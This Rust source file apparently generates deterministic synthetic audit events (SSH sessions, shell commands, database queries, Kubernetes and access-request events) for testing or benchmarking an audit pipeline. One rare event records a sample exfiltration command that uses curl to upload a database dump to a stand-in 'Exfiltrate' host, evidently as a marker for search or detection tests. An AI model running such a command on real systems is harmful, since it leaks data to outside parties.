//! Realistic events, the same ones in every run: a mix over the types of about
//! 300 bytes, of 1,000 users on 500 servers, in sessions of 20 events.

use auditgate::proto::pb::event::Payload;
use auditgate::proto::pb::{self, Event};
use auditgate::time::Time;
use auditgate::wire;
use bytes::Bytes;
use prost::Message as _;
use uuid::Uuid;

/// How many people act.
pub const USERS: u64 = 1_000;
/// On how many hosts.
pub const SERVERS: u64 = 500;
/// Length of a session, in events.
pub const SESSION_EVENTS: u64 = 20;
/// How many sessions run at the same time.
const SESSIONS_AT_ONCE: u64 = 50;
/// One event in so many is of type trusted_cluster.create, which the
/// mix lacks otherwise, and another one has
/// [`RARE_TEXT`].
pub const RARE_ONE_IN: u64 = 10_000;
/// Occurs in the command line of one event in [`RARE_ONE_IN`].
pub const RARE_TEXT: &str = "Exfiltrate";
/// When the first event happened: 2026-01-01 00:00:00 UTC, in nanoseconds.
pub const BEGIN: Time = Time(1_767_225_600_000_000_000);
/// Time between two events, in nanoseconds: a million of them are a week.
pub const STEP_NANOS: i64 = 604_800_000;
/// In which sizes the mean of the generated events must lie, in bytes.
pub const MEAN_BYTES: std::ops::RangeInclusive<usize> = 270..=330;

/// The event of this number.
pub fn event(number: u64) -> Event {
    let group = number / (SESSION_EVENTS * SESSIONS_AT_ONCE);
    let session = group * SESSIONS_AT_ONCE + number % SESSIONS_AT_ONCE;
    let index = number % (SESSION_EVENTS * SESSIONS_AT_ONCE) / SESSIONS_AT_ONCE;
    let server = mix(session ^ 0x5e12) % SERVERS;
    let dice = mix(number);
    let (payload, code) = payload(number, index, dice);
    let failed = dice.is_multiple_of(50);
    Event {
        id: Some(event_id(number)),
        time: Some(time(number).timestamp()),
        code: code.map(str::to_owned),
        cluster_name: Some("production-eu".into()),
        index: Some(index as i64),
        user: Some(pb::User {
            name: Some(user(mix(session) % USERS)),
            login: Some("ubuntu".into()),
            ..Default::default()
        }),
        session: Some(pb::Session { id: Some(session_id(session)), ..Default::default() }),
        server: Some(pb::Server {
            id: Some(server_id(server)),
            hostname: Some(format!("node-{server:03}.eu.example.com")),
            ..Default::default()
        }),
        connection: Some(pb::Connection {
            remote_address: Some(format!("10.{}.{}.7:52114", session % 200, session / 200 % 250)),
            protocol: Some("ssh".into()),
            ..Default::default()
        }),
        outcome: Some(pb::Outcome { success: Some(!failed), ..Default::default() }),
        source: Some(pb::Source { name: Some("access-node".into()), ..Default::default() }),
        payload: Some(payload),
        ..Default::default()
    }
}

/// When the event of this number happened.
pub fn time(number: u64) -> Time {
    BEGIN.saturating_add(number as i64 * STEP_NANOS)
}

/// Id of the event of this number: the number is its last 16 digits.
pub fn event_id(number: u64) -> String {
    uuid(mix(number ^ 0x1d), number)
}

/// Name of a user.
pub fn user(number: u64) -> String {
    format!("user{number:04}@example.com")
}

/// Id of a session.
pub fn session_id(number: u64) -> String {
    uuid(mix(number ^ 0x5e55), mix(number))
}

/// Encoded events.
pub fn encoded(numbers: std::ops::Range<u64>) -> impl Iterator<Item = Bytes> {
    numbers.map(|number| Bytes::from(event(number).encode_to_vec()))
}

/// Encoded requests to Emit.
pub fn emit_requests(numbers: std::ops::Range<u64>) -> Vec<Bytes> {
    encoded(numbers).map(|event| emit_request(&event)).collect()
}

/// An encoded request to Emit.
pub fn emit_request(event: &[u8]) -> Bytes {
    let mut request = Vec::with_capacity(event.len() + 8);
    wire::put_bytes_field(&mut request, EVENT_FIELD, event);
    request.into()
}

/// Encoded requests to EmitBatch, of `size` events each.
pub fn batch_requests(numbers: std::ops::Range<u64>, size: usize) -> Vec<Bytes> {
    let events: Vec<Bytes> = encoded(numbers).collect();
    events
        .chunks(size)
        .map(|events| {
            let mut request = Vec::new();
            for event in events {
                wire::put_bytes_field(&mut request, EVENT_FIELD, event);
            }
            request.into()
        })
        .collect()
}

/// Field number of `EmitRequest.event` and of `EmitBatchRequest.events`.
const EVENT_FIELD: u32 = 1;

fn payload(number: u64, index: u64, dice: u64) -> (Payload, Option<&'static str>) {
    if number % RARE_ONE_IN == RARE_ONE_IN / 2 {
        return (Payload::TrustedClusterCreate(Default::default()), Some("T7000I"));
    }
    if number % RARE_ONE_IN == RARE_ONE_IN / 4 {
        return (exec(&format!("curl -T dump.sql https://{RARE_TEXT}.example.com/")), None);
    }
    if index == 0 {
        let start = pb::SessionStart {
            terminal_size: Some("120:40".into()),
            session_recording: Some("node".into()),
            ..Default::default()
        };
        return (Payload::SessionStart(start), Some("T2000I"));
    }
    if index == SESSION_EVENTS - 1 {
        let end = pb::SessionEnd {
            interactive: Some(true),
            participants: vec![user(dice % USERS)],
            start_time: Some(time(number - index * SESSIONS_AT_ONCE).timestamp()),
            end_time: Some(time(number).timestamp()),
            ..Default::default()
        };
        return (Payload::SessionEnd(end), Some("T2004I"));
    }
    common(dice)
}

/// What happens within a session.
fn common(dice: u64) -> (Payload, Option<&'static str>) {
    let number = dice >> 16;
    let (payload, code) = match dice / 50 % 100 {
        0..30 => (command(number), "T4000I"),
        30..40 => (disk(number), "T4001I"),
        40..50 => (network(number), "T4002I"),
        50..60 => (exec(&format!("systemctl restart worker-{}", number % 100)), "T3002I"),
        60..70 => (query(number), "TDB02I"),
        70..80 => (request(number), "T2009I"),
        80..88 => (kube(number), "T3009I"),
        88..92 => {
            let data = pb::SessionData {
                bytes_transmitted: Some(number % 100_000),
                bytes_received: Some(number % 9_000),
            };
            (Payload::SessionData(data), "T2006I")
        }
        92..95 => {
            let size = format!("{}:{}", 80 + number % 100, 25 + number % 40);
            let resize = pb::Resize { terminal_size: Some(size), ..Default::default() };
            (Payload::Resize(resize), "T2002I")
        }
        95 => (
            Payload::UserLogin(pb::UserLogin { method: Some("oidc".into()), ..Default::default() }),
            "T1001I",
        ),
        96 => (Payload::SessionJoin(Default::default()), "T2001I"),
        97 => (Payload::SessionLeave(Default::default()), "T2003I"),
        98 => (Payload::AccessRequestCreate(access_request(number)), "T5000I"),
        _ => (Payload::AccessRequestReview(access_review(number)), "T5002I"),
    };
    (payload, Some(code))
}

fn command(number: u64) -> Payload {
    const PROGRAMS: [&str; 6] = ["bash", "ls", "grep", "python3", "cat", "kubectl"];
    let program = PROGRAMS.get((number % 6) as usize).copied().unwrap_or_default();
    Payload::SessionCommand(pb::SessionCommand {
        bpf: Some(bpf(program, number)),
        ppid: Some(number % 30_000),
        path: Some(format!("/usr/bin/{program}")),
        argv: vec!["-c".into(), format!("report-{}", number % 1_000)],
        return_code: Some(0),
    })
}

fn disk(number: u64) -> Payload {
    Payload::SessionDisk(pb::SessionDisk {
        bpf: Some(bpf("bash", number)),
        path: Some(format!("/var/lib/app/data-{}.db", number % 500)),
        flags: Some(2_100_000),
        return_code: Some(0),
    })
}

fn network(number: u64) -> Payload {
    Payload::SessionNetwork(pb::SessionNetwork {
        bpf: Some(bpf("curl", number)),
        src_addr: Some("10.20.30.40".into()),
        dst_addr: Some(format!("10.9.{}.{}", number % 200, number % 90)),
        dst_port: Some(443),
        tcp_version: Some(4),
        ..Default::default()
    })
}

fn bpf(program: &str, number: u64) -> pb::Bpf {
    pb::Bpf {
        pid: Some(number % 32_768),
        cgroup_id: Some(4_294_968_064),
        program: Some(program.into()),
        ..Default::default()
    }
}

fn exec(line: &str) -> Payload {
    let command =
        pb::Command { line: Some(line.into()), exit_code: Some("0".into()), ..Default::default() };
    Payload::Exec(pb::Exec { command: Some(command), ..Default::default() })
}

fn query(number: u64) -> Payload {
    let database = pb::Database {
        service: Some("orders-postgres".into()),
        protocol: Some("postgres".into()),
        name: Some("orders".into()),
        user: Some("app".into()),
        ..Default::default()
    };
    Payload::DbSessionQuery(pb::DbSessionQuery {
        database: Some(database),
        db_query: Some(format!("SELECT total FROM orders WHERE id = {}", number % 1_000_000)),
        ..Default::default()
    })
}

fn request(number: u64) -> Payload {
    let app = pb::App {
        name: Some("billing".into()),
        uri: Some("http://billing:8080".into()),
        ..Default::default()
    };
    Payload::AppSessionRequest(pb::AppSessionRequest {
        app: Some(app),
        status_code: Some(200),
        path: Some(format!("/invoices/{}", number % 100_000)),
        method: Some("GET".into()),
        ..Default::default()
    })
}

fn kube(number: u64) -> Payload {
    let cluster = pb::KubernetesCluster { name: Some("eu-1".into()), ..Default::default() };
    Payload::KubeRequest(pb::KubeRequest {
        kubernetes_cluster: Some(cluster),
        request_path: Some(format!("/api/v1/namespaces/team-{}/pods", number % 40)),
        verb: Some("GET".into()),
        resource_kind: Some("pods".into()),
        response_code: Some(200),
        ..Default::default()
    })
}

fn access_request(number: u64) -> pb::AccessRequestCreate {
    pb::AccessRequestCreate {
        roles: vec!["db-admin".into()],
        request_id: Some(uuid(mix(number), number)),
        request_state: Some("PENDING".into()),
        ..Default::default()
    }
}

fn access_review(number: u64) -> pb::AccessRequestReview {
    pb::AccessRequestReview {
        request_id: Some(uuid(mix(number), number)),
        reviewer: Some(user(number % USERS)),
        proposed_state: Some("APPROVED".into()),
        ..Default::default()
    }
}

fn server_id(number: u64) -> String {
    uuid(mix(number ^ 0x5e), mix(number))
}

fn uuid(high: u64, low: u64) -> String {
    Uuid::from_u64_pair(high, low).hyphenated().to_string()
}

/// Scatters a number over 64 bits: the finalizer of SplitMix64 (Steele, Lea and
/// Flood, 2014).
pub fn mix(number: u64) -> u64 {
    let mut mixed = number.wrapping_add(0x9e37_79b9_7f4a_7c15);
    mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    mixed ^ (mixed >> 31)
}
